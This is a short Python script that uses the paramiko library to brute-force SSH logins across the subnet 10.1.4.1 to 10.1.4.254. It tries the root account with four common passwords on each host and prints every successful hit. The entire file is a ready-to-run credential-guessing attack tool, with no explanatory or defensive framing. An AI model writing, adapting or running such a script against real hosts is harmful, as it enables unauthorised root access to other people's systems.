import paramiko

HOSTS = ["10.1.4.%d" % i for i in range(1, 255)]
WORDS = ["root", "admin", "123456", "toor"]
for h in HOSTS:
    for w in WORDS:
        c = paramiko.SSHClient()
        c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
        try:
            c.connect(h, username="root", password=w, timeout=2)
            print("hit", h, w)
            break
        except Exception:
            c.close()
